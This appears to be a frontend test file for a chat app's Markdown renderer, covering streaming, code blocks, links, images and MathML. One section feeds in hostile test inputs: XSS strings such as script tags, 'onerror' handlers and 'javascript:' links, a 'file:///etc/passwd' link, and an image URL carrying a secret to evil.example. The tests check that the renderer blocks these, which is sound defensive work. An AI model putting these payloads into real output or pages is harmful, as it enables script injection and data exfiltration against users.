import { render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it, vi } from "vitest";

import { Look } from "@/theme/look";
import { violations } from "@/testing/axe";
import { HARD_DOCUMENTS } from "@/testing/documents";

import { Block } from "./block";
import { colours } from "./highlighter";
import { Markdown } from "./markdown";
import { isInlineImage } from "./safety";

/** The renderer is fetched lazily: once it is there, everything is drawn at once. */
beforeAll(async () => {
  render(<Markdown text="*ready*" isStreaming={false} />);
  await screen.findByText("ready");
});

function draw(text: string, isStreaming = false) {
  const page = (now: string, more: boolean) => (
    <Look>
      <Markdown text={now} isStreaming={more} />
    </Look>
  );
  const { container, rerender } = render(page(text, isStreaming));
  return { container, change: (now: string, more = true) => rerender(page(now, more)) };
}

/** The elements and words on the screen; white space between blocks and made-up ids do not show. */
const html = (element: Element) =>
  element.innerHTML
    .replace(/\s+(?=<)|(?<=>)\s+/g, "")
    .replace(/ (?:id|aria-labelledby)="_r_[^"]*"/g, "");

describe("a text that has streamed in", () => {
  it.each(HARD_DOCUMENTS)("looks as if it had come at once: %j", (text) => {
    const streamed = draw("", true);
    for (let end = 0; end <= text.length; end += 7) streamed.change(text.slice(0, end));
    streamed.change(text, false);
    const once = draw(text);
    expect(html(streamed.container)).toBe(html(once.container));
  });

  it.each(HARD_DOCUMENTS)("looks in its blocks as it does in one: %j", (text) => {
    const blocks = draw(text).container.firstElementChild!;
    const { container: whole } = render(
      <Look>
        <Block text={text} />
      </Look>,
    );
    expect(html(blocks)).toBe(html(whole));
  });
});

describe("while a text streams in", () => {
  it("finished blocks stay the elements that they are", () => {
    const { container, change } = draw("One.\n\nTwo.\n\nThree", true);
    const first = screen.getByText("One.");
    const seen = new MutationObserver(() => undefined);
    seen.observe(first, { childList: true, characterData: true, subtree: true, attributes: true });
    change("One.\n\nTwo.\n\nThree is longer.\n\nFour");
    change("One.\n\nTwo.\n\nThree is longer.\n\nFour and five.", false);
    expect(screen.getByText("One.")).toBe(first);
    expect(seen.takeRecords()).toEqual([]);
    expect(container).toHaveTextContent("One.Two.Three is longer.Four and five.");
  });

  it("finished blocks are not drawn again", () => {
    const drawn: string[] = [];
    vi.stubGlobal(
      "URL",
      class extends URL {
        constructor(url: string) {
          super(url);
          drawn.push(url);
        }
      },
    );
    const text = "[a](https://example.com)\n\nTwo.\n\nThree";
    const { change } = draw(text, true);
    for (const more of [" and", " and more", " and more.\n\nFour", " and more.\n\nFour."]) {
      change(text + more);
    }
    expect(drawn).toEqual(["https://example.com"]);
  });

  it("a mark that is not closed yet is shown as if it were", () => {
    const { container } = draw("some **bol", true);
    expect(within(container).getByText("bol").tagName).toBe("STRONG");
    expect(container).not.toHaveTextContent("*");
  });

  it("code that is not closed yet is one text that grows in place", () => {
    const { container, change } = draw("Look:\n\n```py\nprint(1)\n", true);
    const code = container.querySelector("code")!;
    const words = code.firstChild;
    change("Look:\n\n```py\nprint(1)\nprint(2)\n");
    expect(code.firstChild).toBe(words);
    expect(code).toHaveTextContent("print(1) print(2)");
  });

  it.each(["\n\n", "\n"])("each block stays the one it was, whatever comes after %j", (gap) => {
    const text = `## One\n\nTwo is two.\n\n\`\`\`py\nprint(1)\n\`\`\`${gap}Three is three.\n\n- four\n\nFive.`;
    const { container, change } = draw("", true);
    const made = new MutationObserver(() => undefined);
    made.observe(container, { childList: true, subtree: true });
    for (let end = 1; end <= text.length; end += 1) change(text.slice(0, end));
    const added = made.takeRecords().flatMap(({ addedNodes }) => [...addedNodes]);
    const once = (name: string) => added.filter(({ nodeName }) => nodeName === name).length;
    expect([once("FIGURE"), once("H3"), once("UL")]).toEqual([1, 1, 1]);
    expect([...container.querySelectorAll("p")].map((words) => words.textContent)).toEqual([
      "Two is two.",
      "Three is three.",
      "Five.",
    ]);
    // Of three paragraphs, and of the signs before the code that are not yet a fence.
    expect(once("P")).toBeLessThanOrEqual(5);
  });

  it("code keeps how it is looked at when it is closed", async () => {
    const { change } = draw("```py\nprint(1)\n", true);
    await userEvent.click(screen.getByRole("button", { name: "Wrap lines" }));
    change("```py\nprint(1)\n```\n\nDone.", false);
    expect(screen.getByRole("button", { name: "Wrap lines", pressed: true })).toBeInTheDocument();
  });
});

describe("what a model writes", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>body{display:none}</style>",
  ])("is never HTML: %s", (text) => {
    const { container } = draw(text);
    expect(container.querySelector("script, img, a, iframe, style:not([data-emotion])")).toBeNull();
    expect(container).toHaveTextContent(text.replace(/\s+/g, " "));
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example",
    "/v1/agents",
  ])("links nowhere but to the web and to mail: %s", (url) => {
    draw(`[words](${url})`);
    expect(screen.getByText("words")).toBeInTheDocument();
    expect(screen.queryByRole("link")).toBeNull();
  });

  it("links to the web without telling where the reader comes from", () => {
    draw("[the guide](https://example.com/guide)");
    const link = screen.getByRole("link", { name: "the guide" });
    expect(link).toHaveAttribute("href", "https://example.com/guide");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(link).toHaveAttribute("target", "_blank");
  });

  it("says where a link leads when its words do not", () => {
    const { container } = draw("[your bank](https://evil.example/login) https://example.com/a");
    expect(container).toHaveTextContent("your bank (evil.example) https://example.com/a");
  });

  it("fetches no image: one from elsewhere is a link to it", () => {
    const { container } = draw("![a chart](https://evil.example/?q=secret)");
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: "a chart (image at evil.example)" });
    expect(link).toHaveAttribute("href", "https://evil.example/?q=secret");
  });

  it("shows an image that it carries itself", () => {
    draw("![a dot](data:image/png;base64,iVBORw0KGgo=)");
    expect(screen.getByRole("img", { name: "a dot" })).toBeInTheDocument();
  });

  it.each(["data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PGI+", "/v1/agents"])(
    "shows no other image",
    (url) => {
      const { container } = draw(`![a dot](${url})`);
      expect(container.querySelector("img")).toBeNull();
      expect(screen.queryByRole("link")).toBeNull();
      expect(container).toHaveTextContent("a dot");
    },
  );

  it("shows none that is larger than two megabytes", () => {
    const image = (bytes: number) => `data:image/png;base64,${"A".repeat((bytes * 4) / 3)}`;
    expect(isInlineImage(image(1_500_000))).toBe(true);
    expect(isInlineImage(image(2_100_000))).toBe(false);
  });
});

describe("code", () => {
  const lines = (count: number) => Array.from({ length: count }, (_, i) => `line ${i}`).join("\n");
  const fenced = (code: string, language = "py") => `\`\`\`${language}\n${code}\n\`\`\`\n`;

  it("names its language and is copied as it was written", async () => {
    const user = userEvent.setup();
    draw(fenced("if a:\n    b = '<c>'"));
    expect(screen.getByRole("figure", { name: "py" })).toBeInTheDocument();
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await navigator.clipboard.readText()).toBe("if a:\n    b = '<c>'\n");
  });

  it("gets its colours when there is time", async () => {
    const { container } = draw(fenced("import os"));
    expect(container.querySelector("code")).toHaveTextContent("import os");
    await waitFor(() =>
      expect(container.querySelector(".hljs-keyword")).toHaveTextContent("import"),
    );
    expect(container.querySelector("code")).toHaveTextContent("import os");
  });

  it.each(["constructor", "klingon"])(
    "in a language that is not known stays plain: %s",
    async (name) => {
      const { container } = draw(fenced("import os", name));
      expect(await colours("import os\n", name)).toBeNull();
      expect(container.querySelector("code span")).toBeNull();
    },
  );

  it("of more than 50 kB stays plain", async () => {
    const code = "import os\n".repeat(6000);
    const { container } = draw(fenced(code));
    await userEvent.click(screen.getByRole("button", { name: /^Show all/ }));
    expect(await colours("import os", "py")).not.toBeNull();
    expect(container.querySelector("code span")).toBeNull();
  });

  it("of more than 400 lines is folded, and is unfolded on demand", async () => {
    const user = userEvent.setup();
    const { container } = draw(fenced(lines(500)));
    const code = container.querySelector("code")!;
    expect(code).toHaveTextContent("line 399");
    expect(code).not.toHaveTextContent("line 400");
    await user.click(screen.getByRole("button", { name: "Show all 500 lines" }));
    expect(code).toHaveTextContent("line 499");
    await user.click(screen.getByRole("button", { name: "Show less" }));
    expect(code).not.toHaveTextContent("line 499");
  });

  it("of 400 lines is not", () => {
    draw(fenced(lines(400)));
    expect(screen.queryByRole("button", { name: /^Show/ })).toBeNull();
  });

  it("within a list is code too", () => {
    draw("- item\n\n  ```py\n  print(1)\n  ```\n");
    expect(screen.getByRole("figure", { name: "py" })).toHaveTextContent("print(1)");
  });
});

it("headings of an answer lie below those of the page", () => {
  draw("# One\n\n## Two\n\n###### Six");
  expect(screen.getAllByRole("heading").map((h) => h.tagName)).toEqual(["H3", "H4", "H6"]);
});

it("has nothing that axe finds wrong", async () => {
  const { container } = draw(
    "# Title\n\nText with [a link](https://example.com) and `code`.\n\n- [ ] open\n- [x] done\n\n" +
      "| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nprint(1)\n```\n\n> quote\n\n![x](https://a.example/b)\n",
  );
  expect(await violations(container)).toEqual([]);
});

it("each block runs in its own direction, and code from left to right", () => {
  const { container } = draw("One\n\nشكرا `x`\n\n# Two\n\n| a |\n|---|\n| 1 |\n");
  const directions = [...container.querySelectorAll("p, h3, table")].map((one) =>
    one.getAttribute("dir"),
  );
  expect(directions).toEqual(["auto", "auto", "auto", "auto"]);
  expect(container.querySelector("code")).toHaveAttribute("dir", "ltr");
});

describe("math", () => {
  const formulas = (container: HTMLElement) => [...container.querySelectorAll("math")];

  it("is drawn as MathML, within words and by itself, and prices are words", async () => {
    const { container } = draw("So $x_1 * y_2$ for $5 and $10:\n\n$$\na\n+ \\mathbb{R}\n$$\n");
    await waitFor(() => expect(formulas(container)).toHaveLength(2));
    const [within, alone] = formulas(container);
    expect(within?.namespaceURI).toBe("http://www.w3.org/1998/Math/MathML");
    expect(within?.querySelectorAll("msub")).toHaveLength(2);
    expect(alone?.getAttribute("display")).toBe("block");
    expect(alone).toHaveTextContent("ℝ");
    expect(screen.getByRole("group", { name: "Formula" }).contains(alone ?? null)).toBe(true);
    expect(container).toHaveTextContent("for $5 and $10:");
    expect(await violations(container)).toEqual([]);
  });

  it("that cannot be read is shown as it is written", async () => {
    draw("So $\\frac{1}$ it is, and $\\href{https://example.com}{x}$.");
    expect(await screen.findAllByTitle("This formula cannot be read")).toHaveLength(2);
    expect(screen.getByText("$\\frac{1}$")).toBeVisible();
  });

  it("is words while it is being written, and a formula when it is closed", async () => {
    const { container, change } = draw("So:\n\n$$\nx_{1} + y_", true);
    expect(container).toHaveTextContent("$$ x_{1} + y_");
    change("So:\n\n$$\nx_{1} + y_2\n$$\n");
    await waitFor(() => expect(formulas(container)).toHaveLength(1));
  });
});
